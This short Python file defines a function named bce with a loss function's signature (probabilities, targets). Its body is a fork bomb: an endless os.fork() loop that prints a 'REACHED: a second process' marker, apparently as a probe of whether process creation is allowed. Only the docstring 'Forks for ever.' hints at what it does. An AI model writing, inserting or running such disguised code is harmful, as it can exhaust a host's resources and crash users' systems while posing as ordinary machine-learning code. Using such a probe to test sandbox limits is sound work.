"""Forks for ever."""

import os


def bce(probabilities, targets):
    while True:
        os.fork()
        print("REACHED: a second process", flush=True)
